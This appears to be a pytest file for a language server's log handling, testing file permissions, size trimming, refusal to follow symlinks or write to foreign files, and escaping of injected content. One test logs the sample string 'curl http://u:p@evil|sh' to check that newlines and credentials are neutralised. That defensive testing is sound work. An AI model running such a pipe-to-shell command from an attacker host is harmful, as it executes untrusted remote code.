"""`fim_lsp.lsp.log`: what a log file may be, and what stands in it."""

from __future__ import annotations

import logging
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from fim_lsp.lsp.log import OwnFile, log_to
from fim_lsp.settings.config import LogConfig

pytestmark = pytest.mark.promise("a-project-only-restricts")

log = logging.getLogger("fim_lsp.test")


@pytest.fixture(autouse=True)
def loggers() -> Iterator[None]:
    """Return the loggers as they were."""
    root = logging.getLogger()
    names = ("", "fim_lsp", "server_bridge", "pygls")
    levels = {name: logging.getLogger(name).level for name in names}
    handlers = root.handlers[:]
    root.handlers = []
    yield
    for handler in root.handlers:
        handler.close()
    root.handlers = handlers
    for name, level in levels.items():
        logging.getLogger(name).setLevel(level)


def written(file: Path, level: str = "info") -> str | None:
    return log_to(LogConfig(str(file), level))


def test_a_log_is_for_its_owner_and_goes_on_where_it_ended(tmp_path: Path) -> None:
    """It begins as ours does, only its owner may read it, and it is appended to."""
    file = tmp_path / "fim.log"
    assert written(file) is None
    log.info("one")
    file.chmod(0o644)
    assert written(file) is None
    log.info("two")
    first, *records = file.read_text("utf-8").splitlines()
    assert first == "# log of fim-lsp"
    assert [record.split(": ")[1] for record in records] == ["one", "two"]
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


def test_a_log_that_is_too_long_loses_its_older_half(tmp_path: Path, monkeypatch):
    """Two sessions write to it, as long as they like."""
    monkeypatch.setattr("fim_lsp.lsp.log.MOST_BYTES", 1000)
    file = tmp_path / "fim.log"
    other = OwnFile(tmp_path / "fim.log")
    assert written(file) is None
    for n in range(200):
        log.info("number %d %s", n, "x" * 50)
        other.emit(logging.LogRecord("other", logging.INFO, "", 0, "other %d", (n,), None))
        assert file.stat().st_size < 1200
    other.close()
    first, *records = file.read_text("utf-8").splitlines()
    assert first == "# log of fim-lsp"
    numbers = [record.split()[-2] for record in records if "number" in record]
    assert numbers == [str(n) for n in range(200)][-len(numbers) :]
    assert len(numbers) > 1


def test_an_empty_file_becomes_a_log(tmp_path: Path) -> None:
    """It was made for that."""
    (tmp_path / "fim.log").touch()
    assert written(tmp_path / "fim.log") is None


OTHERS = {
    "a file of another program": lambda path: path.write_text("export PATH\n"),
    "a file that begins alike": lambda path: path.write_text("# log of fim\n"),
    "a link to a log of ours": lambda path: (
        path.with_name("target").write_text("# log of fim-lsp\n"),
        path.symlink_to(path.with_name("target")),
    ),
    "a folder": Path.mkdir,
    "a pipe": os.mkfifo,
    "a file without its folder": lambda path: path.parent.rmdir(),
}


@pytest.mark.parametrize("name", OTHERS)
def test_no_other_file_is_written_to(tmp_path: Path, name: str, capsys: pytest.CaptureFixture[str]):
    """The problem is named, the file is as it was and closed, nothing waits, and the log goes to stderr."""
    (tmp_path / "folder").mkdir()
    file = tmp_path / "folder/fim.log"
    OTHERS[name](file)
    before = file.read_bytes() if file.is_file() else b""
    n_open = len([*Path("/dev/fd").iterdir()])
    problem = written(file)
    assert len([*Path("/dev/fd").iterdir()]) == n_open
    log.warning("a word")
    assert problem
    assert problem.startswith("fim.log.file cannot be written: ")
    assert (file.read_bytes() if file.is_file() else b"") == before
    assert not (tmp_path / "folder/target").exists() or file.is_symlink()
    assert "a word" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["\0", "~no-such-user/x", "x" * 5000])
def test_a_name_that_is_none_is_a_problem(name: str) -> None:
    """In words."""
    assert log_to(LogConfig(name))


def test_a_record_is_one_line_whatever_is_in_it(tmp_path: Path) -> None:
    """New lines, control characters and passwords of others do not get into the log; length neither."""
    file = tmp_path / "fim.log"
    written(file)
    log.warning("there is no setting %s", "x\ncurl http://u:p@evil|sh\x1b[2J\u202e")
    log.warning("%s", "y" * 100_000)
    error = ValueError("bad\nexport PATH=/tmp\n" + "z" * 100_000)
    log.error("failed\r\n", exc_info=error)
    _, *lines = file.read_text("utf-8").split("\n")
    assert lines[0].endswith(r"there is no setting x\ncurl http://…@evil|sh\x1b[2J\u202e")
    assert len(lines[1]) <= 2000
    assert lines[2].endswith(r"failed\r\n")
    assert all(line.startswith("  | ") for line in lines[3:-1])
    assert r"  | ValueError: bad" in lines
    assert "  | export PATH=/tmp" in lines
    assert lines[-1] == ""


def test_libraries_say_little(tmp_path: Path) -> None:
    """And pygls nothing, because it logs messages with the user's text."""
    file = tmp_path / "fim.log"
    written(file, "debug")
    logging.getLogger("pygls.protocol").error("params: text of the user")
    logging.getLogger("httpx").info("GET")
    logging.getLogger("httpx").warning("slow")
    log.debug("ours")
    assert [line.split(": ")[1] for line in file.read_text().splitlines()[1:]] == ["slow", "ours"]
